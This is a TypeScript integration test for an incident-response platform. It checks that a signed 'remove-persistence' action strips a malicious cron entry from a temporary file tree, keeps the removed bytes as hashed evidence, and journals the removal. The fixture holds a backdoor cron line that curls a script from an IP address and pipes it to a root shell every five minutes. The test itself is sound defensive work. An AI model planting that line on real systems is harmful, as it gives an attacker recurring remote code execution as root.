/**
 * Eradication of persistence over the real path on both dialects: a responder asks for a
 * `remove-persistence` over the API → the server signs it → the agent (real Ed25519 key over
 * the real gateway; it verifies the command with protocol's `verifyCommand` and runs the
 * agent's own executor against a real temporary root) → the signed result → the copy of what
 * was removed kept as evidence (custody SHA-256 equal to the removed bytes) and journalled.
 */
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { executeAction } from '@cordon/agent';
import type { ActionContext } from '@cordon/agent';
import { decodeBase64url, verifyCommand } from '@cordon/protocol';
import { DIALECTS, dialectAvailable } from '@cordon/storage/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyEd25519Raw } from '../src/index.ts';
import { ScriptedAgent, hostFacts } from './gateway-test-kit.ts';
import type { TestServer } from './test-server.ts';
import { bearer, startTestServer, system } from './test-server.ts';

const CRON_LINE = '*/5 * * * * root curl -s http://203.0.113.9/p | sh';
const CRON_FILE = `SHELL=/bin/sh\n0 3 * * * root /usr/sbin/logrotate\n${CRON_LINE}\n`;

for (const dialect of DIALECTS) {
  describe.skipIf(!dialectAvailable(dialect))(`remove-persistence round trip (${dialect})`, () => {
    let t: TestServer;
    let root: string;
    let tenantId = '';
    let responder = '';
    let viewer = '';
    const agent = new ScriptedAgent();
    const call = async (method: string, url: string, token: string, payload?: object) => {
      const response = await t.server.app.inject({
        method: method as 'GET',
        url,
        headers: bearer(token),
        ...(payload === undefined ? {} : { payload }),
      });
      const json = response.headers['content-type']?.toString().startsWith('application/json');
      return {
        status: response.statusCode,
        body: json === true ? response.json() : undefined,
        raw: response.rawPayload,
      };
    };

    beforeAll(async () => {
      root = await mkdtemp(join(tmpdir(), 'cordon-persistence-root-'));
      await mkdir(join(root, 'etc/cron.d'), { recursive: true });
      await writeFile(join(root, 'etc/passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
      await writeFile(join(root, 'etc/cron.d/updater'), CRON_FILE);
      t = await startTestServer(dialect);
      tenantId = (await t.server.services.access.createTenant(system, 'Acme')).id;
      responder = await t.token(tenantId, 'responder');
      viewer = await t.token(tenantId, 'client_viewer');
      const lead = await t.token(tenantId, 'incident_lead');
      const gatewayUrl = await t.server.containment.listen('127.0.0.1', 0);
      const issued = await call(
        'POST',
        `/api/v1/tenants/${tenantId}/agents/enrolment-tokens`,
        lead,
        {},
      );
      await agent.enrol(gatewayUrl, issued.body.token, hostFacts('web-01', ['192.0.2.30']));
    });
    afterAll(async () => {
      agent.socket?.terminate();
      await t.dispose();
      await rm(root, { recursive: true, force: true });
    });

    /** The agent's side: verify the signed command, run the agent's executor, sign the result. */
    async function answerOneCommand(): Promise<void> {
      const { command } = await agent.next('command', 15_000);
      const agentRecord = await t.server.containment.service.getAgent(
        system,
        tenantId,
        agent.agentId,
      );
      expect(agentRecord.agentId).toBe(agent.agentId);
      const verdict = verifyCommand(command, {
        serverPublicKey: decodeBase64url(t.server.containment.gateway.serverPublicKey)!,
        verifySignature: verifyEd25519Raw,
        tenantId,
        agentId: agent.agentId,
        now: Date.now(),
        seenNonces: new Set(),
      });
      if (!verdict.ok) throw new Error(JSON.stringify(verdict.rejection));
      const outcome = await executeAction(
        verdict.command.action,
        { persistenceRoot: root, systemctl: null } as unknown as ActionContext,
        verdict.command.commandId,
      );
      agent.send({
        kind: 'result',
        result: agent.result({
          tenantId,
          agentId: agent.agentId,
          commandId: verdict.command.commandId,
          status: outcome.status,
          detail: outcome.detail,
          output: outcome.output,
        }),
      });
    }

    it('removes the cron line, keeps the removed bytes as evidence and journals it', async () => {
      const incident = await t.server.services.incidents.create(system, tenantId, {
        title: 'cron backdoor on web-01',
        severity: 'high',
      });
      const base = `/api/v1/tenants/${tenantId}`;
      const target = { kind: 'cron', path: '/etc/cron.d/updater', line: CRON_LINE };
      // The grammar is checked at the API too: a path outside the known locations is refused.
      const refused = await call('POST', `${base}/actions`, responder, {
        host: 'web-01',
        action: { kind: 'remove-persistence', target: { ...target, path: '/etc/shadow' } },
      });
      expect(refused.status).toBe(400);
      expect(refused.body.error.message).toMatch(/not a known cron location/);

      const requested = await call('POST', `${base}/actions`, responder, {
        host: 'web-01',
        action: { kind: 'remove-persistence', target },
        incidentId: incident.id,
      });
      expect(requested.status).toBe(201);
      await answerOneCommand();
      await expect
        .poll(
          async () =>
            (await call('GET', `${base}/actions/${requested.body.id}`, viewer)).body
              .state as string,
        )
        .toBe('applied');
      expect(await readFile(join(root, 'etc/cron.d/updater'), 'utf8')).toBe(
        'SHELL=/bin/sh\n0 3 * * * root /usr/sbin/logrotate\n',
      );

      const removed = Buffer.from(`${CRON_LINE}\n`);
      const removedSha = createHash('sha256').update(removed).digest('hex');
      let items: { id: string; sha256: string; collectedFrom: string; incidentId: string }[] = [];
      await expect
        .poll(async () => {
          items = (await call('GET', `${base}/evidence?incidentId=${incident.id}`, viewer)).body
            .items;
          return items.length;
        })
        .toBe(1);
      expect(items[0]).toMatchObject({
        sha256: removedSha,
        collectedFrom: 'web-01',
        incidentId: incident.id,
      });
      const content = await call('GET', `${base}/evidence/${items[0]!.id}/content`, viewer);
      expect(Buffer.from(content.raw).equals(removed)).toBe(true);

      let entry: { kind: string; payload: Record<string, unknown> } | undefined;
      await expect
        .poll(async () => {
          const journal = (
            await call('GET', `${base}/journal?incidentId=${incident.id}&limit=1000`, viewer)
          ).body;
          entry = journal.find(
            (e: { kind: string }) => e.kind === 'eradication.persistence-removed',
          );
          return entry !== undefined;
        })
        .toBe(true);
      expect(entry!.payload).toMatchObject({
        actionId: requested.body.id,
        agentId: agent.agentId,
        host: 'web-01',
        target,
        effect: 'lines-removed',
        evidenceId: items[0]!.id,
        sha256: removedSha,
        copyProblem: null,
        lines: [3],
        before: { sha256: createHash('sha256').update(CRON_FILE).digest('hex') },
      });
    });

    it('records a failure and keeps no evidence when the entry is not there', async () => {
      const base = `/api/v1/tenants/${tenantId}`;
      const before = (await call('GET', `${base}/evidence`, viewer)).body.total;
      const requested = await call('POST', `${base}/actions`, responder, {
        host: 'web-01',
        action: {
          kind: 'remove-persistence',
          target: { kind: 'cron', path: '/etc/cron.d/updater', line: CRON_LINE },
        },
      });
      await answerOneCommand();
      let view: { state: string; detail: string } | undefined;
      await expect
        .poll(async () => {
          view = (await call('GET', `${base}/actions/${requested.body.id}`, viewer)).body;
          return view!.state;
        })
        .toBe('failed');
      expect(view!.detail).toMatch(/nothing removed/);
      expect((await call('GET', `${base}/evidence`, viewer)).body.total).toBe(before);
    });
  });
}
